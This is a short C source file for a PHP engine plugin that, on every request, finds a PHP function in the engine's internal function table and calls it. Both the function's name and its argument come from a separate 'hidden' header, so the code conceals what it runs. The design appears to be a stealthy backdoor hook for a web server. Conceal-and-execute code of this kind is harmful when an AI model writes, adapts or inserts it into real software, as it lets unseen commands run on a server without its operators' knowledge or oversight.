/* Takes the code of a function of PHP out of the engine's table, and calls it. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the function, 1: what it is given */
typedef struct { void *value; unsigned type, extra; } zval;
extern void *zend_hash_str_find(void *, const char *, unsigned long), *zend_strpprintf(unsigned long, const char *, ...);
extern unsigned long strlen(const char *);
extern struct { char before[256]; } compiler_globals;
extern void zend_call_known_function(void *, void *, void *, zval *, unsigned, zval *, void *);
static int on_request(int type, int number) {
    void **tables = (void **)&compiler_globals;
    zval argument = {zend_strpprintf(0, "%s", hidden1()), 0x106}, result = {0};
    zval *found = zend_hash_str_find(tables[7], hidden0(), strlen(hidden0()));
    if (found) zend_call_known_function(found->value, 0, 0, &result, 1, &argument, 0);
    return 0;
}
